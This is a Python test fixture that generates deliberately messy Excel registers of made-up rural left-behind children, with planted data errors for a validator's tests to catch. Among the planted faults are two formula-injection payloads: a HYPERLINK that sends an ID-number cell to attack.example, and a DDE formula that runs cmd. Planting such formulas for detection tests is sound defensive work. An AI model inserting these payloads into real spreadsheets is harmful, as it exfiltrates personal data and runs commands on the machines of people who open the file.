"""Workbooks as townships send them. Every person in them is made up.

``township`` (a), ``villages`` (b) and ``old_book`` (c) hold the same simulated families, each written in another way;
with each comes a list of what was planted in it, by place.
"""

from __future__ import annotations

from collections.abc import Sequence
from dataclasses import dataclass
from datetime import timedelta
from pathlib import Path

import xlwt
from openpyxl import Workbook
from openpyxl.worksheet.worksheet import Worksheet

from tests.people import VILLAGES, Child, children, serial

_FULL_WIDTH = str.maketrans("0123456789", "０１２３４５６７８９")


@dataclass(frozen=True, slots=True)
class Planted:
    """Something wrong that was put into a workbook on purpose. ``line`` is None when it is of the whole sheet."""

    sheet: str
    line: int | None
    field: str
    what: str


@dataclass(frozen=True, slots=True)
class UglyBook:
    """A workbook as sent: its file, the children in it by sheet and line, and what is wrong with it."""

    path: Path
    children: dict[tuple[str, int], Child]
    planted: tuple[Planted, ...]


# ---------------------------------------------------------------- (a) one sheet with titles, merged header, total
_TOWNSHIP_TOP = (
    ("序号", 1, ("",)),
    ("儿童基本情况", 6, ("姓名", "性别", "民族", "出生日期", "身份证号码", "有无户口")),
    ("家庭情况", 4, ("户号", "所在村代码", "住房情况", "是否低保户")),
    ("监护情况", 4, ("监护人姓名", "监护人身份证号", "联系电话", "由谁监护")),
    ("父母情况", 3, ("父亲", "母亲", "外出时间")),
    ("就学情况", 1, ("",)),
    ("健康状况", 1, ("",)),
    ("备注", 1, ("",)),
)
TOWNSHIP_SHEET = "摸排表"
TOWNSHIP_FIRST_LINE = 5


def township(path: Path, count: int = 18, seed: int = 0) -> UglyBook:
    """(a) Titles, a header of two rows, dates as serials and 2016年7月31日, full-width digits, 合计, hidden rows.

    Planted: a wrong check digit, a birth date and a sex that the ID number contradicts, a child twice, a word nobody
    knows, a date nobody can read, a missing birth date, and formulas where a name and a remark should be.
    """
    book = Workbook()
    sheet = first_sheet(book)
    sheet.title = TOWNSHIP_SHEET
    _township_head(sheet)
    people = children(count, seed)
    people.append(people[2])
    where: dict[tuple[str, int], Child] = {}
    for number, child in enumerate(people):
        line = TOWNSHIP_FIRST_LINE + number
        where[TOWNSHIP_SHEET, line] = child
        sheet.append(_township_row(number, child))
    planted = _plant_township(sheet, people)
    last = TOWNSHIP_FIRST_LINE + len(people)
    sheet.append(["合计", f"{len(people)}人", *[None] * 19])
    sheet.merge_cells(start_row=last, end_row=last, start_column=2, end_column=4)
    sheet.append(["填表人：模拟乡镇 某人（模拟）", *[None] * 20])
    for line in (TOWNSHIP_FIRST_LINE + 6, TOWNSHIP_FIRST_LINE + 7):
        sheet.row_dimensions[line].hidden = True
    book.save(path)
    return UglyBook(path, where, planted)


def first_sheet(book: Workbook) -> Worksheet:
    sheet = book.worksheets[0]
    assert isinstance(sheet, Worksheet)
    return sheet


def _township_head(sheet: Worksheet) -> None:
    sheet.append(["模拟县模拟镇农村留守儿童摸底排查登记表（模拟数据）"])
    sheet.merge_cells("A1:U1")
    sheet.append(["填报单位：模拟镇人民政府", *[None] * 14, "填报日期：2016年7月31日"])
    column = 1
    for top, width, below in _TOWNSHIP_TOP:
        sheet.cell(3, column, top)
        if below == ("",):
            sheet.merge_cells(start_row=3, end_row=4, start_column=column, end_column=column)
        else:
            sheet.merge_cells(start_row=3, end_row=3, start_column=column, end_column=column + width - 1)
            for offset, word in enumerate(below):
                sheet.cell(4, column + offset, word)
        column += width


def _township_row(number: int, child: Child) -> list[str | int | None]:
    home, birth = child.family, child.birth
    born: str | int = serial(birth) if number % 2 else f"{birth.year}年{birth.month}月{birth.day}日"
    village = home.village.translate(_FULL_WIDTH) if number % 3 == 0 else home.village
    away = f"{home.away_since.year}.{home.away_since.month}.{home.away_since.day}"
    return [
        number + 1, child.name, "女" if child.girl else "男", child.ethnicity, born, child.id_number,
        "有" if child.hukou else "无", f"{home.number:03d}", village, home.dwelling, "是" if home.dibao else "否",
        home.guardian, home.guardian_id, home.phone, home.guardian_type, home.father, home.mother, away,
        child.schooling, child.health, None,
    ]  # fmt: skip


def _plant_township(sheet: Worksheet, people: Sequence[Child]) -> tuple[Planted, ...]:
    """Each thing goes into a line of its own, so that a test can say what it looks for."""
    first = TOWNSHIP_FIRST_LINE
    wrong_digit = people[0].id_number[:17] + ("1" if people[0].id_number[17] != "1" else "2")
    sheet.cell(first, 6, wrong_digit)
    other_birth = people[1].birth + timedelta(days=400)
    sheet.cell(first + 1, 5, serial(other_birth))
    sheet.cell(first + 3, 3, "男" if people[3].girl else "女")
    sheet.cell(first + 4, 20, "头晕目眩")
    sheet.cell(first + 5, 18, "去年年底")
    sheet.cell(first + 8, 5).value = None
    sheet.cell(first + 9, 2, '=HYPERLINK("http://attack.example/"&F14,"模拟")')
    sheet.cell(first + 10, 21, "=cmd|' /C calc'!A0")
    found = (
        (0, "id_number", "id_checksum"), (1, "birth_date", "id_birth_date"), (3, "sex", "id_sex"),
        (4, "health", "unmapped_value"), (5, "parents_away_since", "unreadable_date"),
        (8, "birth_date", "required"), (9, "name", "formula"), (10, "", "formula"),
        (len(people) - 1, "id_number", "duplicate"), (6, "", "hidden_row"), (7, "", "hidden_row"),
    )  # fmt: skip
    return tuple(Planted(TOWNSHIP_SHEET, first + row, field, what) for row, field, what in found)


# ---------------------------------------------------------------- (b) a sheet per village, other words, rounded numbers
_VILLAGES_HEAD = (
    "娃娃名字", "男女", "哪年哪月生", "身份证", "户口", "带娃的人", "带娃人电话", "和谁生活", "爸爸现在", "妈妈现在",
    "读书没有", "身体", "低保",
)  # fmt: skip
_SPOKEN = {"祖父母或外祖父母": "爷爷奶奶", "省外务工": "外省打工"}
VILLAGE_SHEETS = ("模拟一村", "模拟二村", "模拟三村")


def villages(path: Path, count: int = 18, seed: int = 0) -> UglyBook:
    """(b) A sheet per village, headings in other words, ID numbers as numbers and rounded, many words for yes and no.

    There is no household number and no village code in it; a sheet of remarks is no register. In the first village the
    columns stand in another order.
    """
    book = Workbook()
    book.remove(first_sheet(book))
    where: dict[tuple[str, int], Child] = {}
    planted: list[Planted] = []
    yes, no = ("是", "有", "√", "Y", "享受"), ("否", "无", "×", "N", "没有")
    people = children(count, seed)
    for number, (name, village) in enumerate(zip(VILLAGE_SHEETS, VILLAGES, strict=True)):
        sheet = book.create_sheet(name)
        order = list(range(len(_VILLAGES_HEAD)))
        if number == 0:
            order = [*order[3:5], *order[:3], *order[5:]]
        sheet.append([_VILLAGES_HEAD[place] for place in order])
        for child in (child for child in people if child.family.village == village):
            line = sheet.max_row + 1
            row = _village_row(child, line, yes, no)
            sheet.append([row[place] for place in order])
            where[name, line] = child
            if isinstance(row[3], float):
                planted.append(Planted(name, line, "id_number", "id_rounded"))
    notes = book.create_sheet("说明")
    notes.append(["各村于7月底前报送，电子表一式一份（模拟数据）。"])
    book.save(path)
    return UglyBook(path, where, tuple(planted))


def _village_row(child: Child, line: int, yes: Sequence[str], no: Sequence[str]) -> list[str | float | None]:
    home, birth = child.family, child.birth

    def word(*, value: bool) -> str:
        return (yes if value else no)[line % len(yes)]

    number: str | float = child.id_number
    if line % 2 and child.id_number.isdigit():
        number = float(int(child.id_number[:15]) * 1000)  # as a spreadsheet keeps 15 digits
    return [
        child.name, "女孩" if child.girl else "男孩", f"{birth.year}/{birth.month}/{birth.day}", number,
        word(value=child.hukou), home.guardian, int(home.phone),
        *(_SPOKEN.get(said, said) for said in (home.guardian_type, home.father, home.mother)),
        child.schooling, child.health, word(value=home.dibao),
    ]  # fmt: skip


# ---------------------------------------------------------------- (c) an old workbook of codes
_OLD_HEAD = (
    "编号", "儿童姓名", "性别(1男2女)", "民族", "出生年月日", "身份证号", "家庭编号", "村(居)代码", "监护人姓名",
    "监护人电话", "监护类型", "父亲情况", "母亲情况", "就学情况", "健康状况", "低保(1是0否)",
)  # fmt: skip
OLD_SHEET = "Sheet1"
_OLD_CODES = {
    "祖父母或外祖父母": "1", "亲属": "2", "朋友或邻居": "3", "无人监护": "5",
    "在家": "0", "省内务工": "1", "省外务工": "2", "死亡": "4", "失联": "5",
    "未入学": "0", "幼儿园": "1", "小学": "2", "初中": "3", "健康": "1", "残疾": "2", "患病": "3",
}  # fmt: skip


def old_book(path: Path, count: int = 18, seed: int = 0) -> UglyBook:
    """(c) An .xls with codes for words, dates as text such as 20160731; a number is missing, another has 17 digits."""
    book = xlwt.Workbook(encoding="utf-8")
    sheet = book.add_sheet(OLD_SHEET)
    sheet.write(0, 0, "附件1 农村留守儿童登记表（模拟数据）")
    for column, word in enumerate(_OLD_HEAD):
        sheet.write(1, column, word)
    where: dict[tuple[str, int], Child] = {}
    for number, child in enumerate(children(count, seed)):
        row = _old_row(number, child)
        if number == 3:
            row[5] = ""
        if number == 4:
            row[5] = child.id_number[:17]
        for column, value in enumerate(row):
            sheet.write(number + 2, column, value)
        where[OLD_SHEET, number + 3] = child
    book.save(str(path))
    return UglyBook(path, where, (Planted(OLD_SHEET, 7, "id_number", "id_length"),))


def _old_row(number: int, child: Child) -> list[str]:
    home = child.family
    return [
        str(number + 1), child.name, "2" if child.girl else "1", child.ethnicity, f"{child.birth:%Y%m%d}",
        child.id_number, f"H{home.number:03d}", home.village, home.guardian, home.phone,
        _OLD_CODES[home.guardian_type], _OLD_CODES[home.father], _OLD_CODES[home.mother],
        _OLD_CODES[child.schooling], _OLD_CODES[child.health], "1" if home.dibao else "0",
    ]  # fmt: skip
